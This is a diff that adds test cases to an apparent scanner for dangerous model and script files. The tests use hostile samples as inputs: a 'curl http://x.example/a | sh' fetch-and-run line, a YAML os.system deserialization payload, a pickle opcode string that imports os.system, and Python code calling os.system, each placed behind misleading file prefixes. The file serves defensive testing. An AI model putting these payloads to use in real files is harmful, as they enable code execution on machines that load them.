@@ -211,6 +211,23 @@ describe('the boundary', () => {
     );
   });
 
+  const CODE = '\nimport os\nos.system("id")\n';
+  const LONG = '#'.repeat(5000);
+  it.each<[path: string, start: string]>([
+    ...['GIF8="\x01"', 'CBM1="\x01"', 'fLaC=1\n#\0', '((((((((()))))))))._'].map(
+      (start): [string, string] => ['modeling_x.py', start + CODE + LONG],
+    ),
+    ['setup.sh', `((((((((((((((N.); curl http://x.example/a | sh\n${LONG}`],
+    ['hyperparams.yaml', `((((((((((((((N.: !!python/object/apply:os.system ["id"]\n${LONG}`],
+  ])('is judged as its name has it run, however it begins: %s %j', async (path, text) => {
+    expect(await inspect(bytesOf(text), path)).toMatchObject({ verdict: 'dangerous' });
+  });
+
+  it('is judged as a pickle too where an archive’s first name is one', async () => {
+    const seen = await inspect(tar([{ name: 'cos\nsystem\n(S"id"\ntR.' }]), 'model.pkl');
+    expect(seen).toMatchObject({ verdict: 'dangerous', imports: [{ module: 'os', name: 'system' }] });
+  });
+
   it('answers mutated and cut files', async () => {
     const edits = fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 6 });
     await fc.assert(
